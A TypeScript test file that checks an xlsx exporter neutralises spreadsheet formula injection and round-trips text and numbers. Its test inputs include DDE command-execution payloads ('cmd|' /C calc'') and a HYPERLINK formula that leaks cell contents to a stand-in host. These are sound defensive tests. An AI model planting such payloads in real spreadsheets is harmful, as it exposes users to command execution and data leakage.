import type { Table } from '@value-framework/core'
import { camdenFramework, dimensionRadarRows } from '@value-framework/core'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { all, openOfficeFile } from '../test/office-file.ts'
import { threeGroups } from '../test/radar-summaries.ts'
import { dimensionRadarXlsx } from './dimension-radar-xlsx.ts'
import { readWorkbook } from './open/workbook.ts'
import { tableXlsx } from './table-xlsx.ts'

const tableOf = (cells: Table['rows']): Table => ({
  caption: 'A table',
  lang: 'en',
  dir: 'ltr',
  head: ['One', 'Two'],
  rows: cells,
  notes: [],
})
const cellsOf = (bytes: Uint8Array): { [address: string]: { type: string; style: string } } =>
  Object.fromEntries(
    all(openOfficeFile(bytes).xml('xl/worksheets/sheet1.xml'), 'c').map((cell) => [
      cell.getAttribute('r') ?? '',
      { type: cell.getAttribute('t') ?? 'n', style: cell.getAttribute('s') ?? '' },
    ]),
  )

describe('tableXlsx', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1',
    '\r=1',
    '\n=1',
    '   =1+1',
    '"=1',
    '＝1+1',
    '=HYPERLINK("http://example.org?leak="&A1,"Open")',
    "-2+3+cmd|' /C calc'!A0",
  ])('keeps %j as text that stays text when it is edited', (text) => {
    const bytes = tableXlsx(tableOf([[{ text: 'row' }, { text }]]))
    const file = openOfficeFile(bytes)
    expect(all(file.xml('xl/worksheets/sheet1.xml'), 'f')).toEqual([])
    const { type, style } = cellsOf(bytes).B2 ?? {}
    expect(type).toBe('inlineStr')
    const formats = all(all(file.xml('xl/styles.xml'), 'cellXfs')[0] as never, 'xf')
    expect(formats[Number(style)]?.getAttribute('quotePrefix')).toBe('1')
  })

  it('leaves numbers numbers, negative ones too', async () => {
    const bytes = tableXlsx(
      tableOf([
        [
          { text: '-3', value: -3 },
          { text: '0.25', value: 0.25 },
        ],
      ]),
    )
    expect(cellsOf(bytes).A2?.type).toBe('n')
    const [sheet] = await readWorkbook(bytes)
    expect(sheet?.rows.slice(0, 2)).toEqual([
      ['One', 'Two'],
      ['-3', '0.25'],
    ])
  })

  it('gives any text and number back as it was', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.string({ unit: 'grapheme', maxLength: 30 }).filter((text) => !/[\p{C}\s]/u.test(text)),
        fc.double({ noNaN: true, noDefaultInfinity: true }),
        async (text, value) => {
          const bytes = tableXlsx(tableOf([[{ text: `a${text}` }, { text: '', value }]]))
          const [sheet] = await readWorkbook(bytes)
          expect(sheet?.rows[1]).toEqual([`a${text}`, String(value)])
        },
      ),
      { numRuns: 60 },
    )
  })

  it('leaves out what XML cannot hold', async () => {
    const bytes = tableXlsx(tableOf([[{ text: 'a\u0000\u0008b\ud800c' }, { text: '<&>"' }]]))
    const [sheet] = await readWorkbook(bytes)
    expect(sheet?.rows[1]).toEqual(['abc', '<&>"'])
  })
})

describe('dimensionRadarXlsx', () => {
  it('has the numbers, the notes and the scale on sheets of their own', async () => {
    const [data, notes, scale] = await readWorkbook(dimensionRadarXlsx(threeGroups))
    const table = dimensionRadarRows(threeGroups, camdenFramework)
    expect(data?.rows[0]).toEqual(table.head)
    expect(data?.rows[1]).toEqual([
      'Community members',
      'Intrinsic benefits',
      '4',
      '3',
      '5',
      '20–49',
      'Views are close together.',
      '',
    ])
    expect(data?.rows[2]?.slice(2)).toEqual(['', '', '', '', '', 'Not shown, to protect privacy.'])
    expect(notes?.rows.flat()).toEqual(
      expect.arrayContaining(['Made-up example numbers.', 'Source: Partner survey, April 2026.']),
    )
    expect(scale?.rows.slice(1, 4)).toEqual([
      ['1', 'Not at all'],
      ['4', 'A lot'],
      ['5', 'A great deal'],
    ])
  })
})
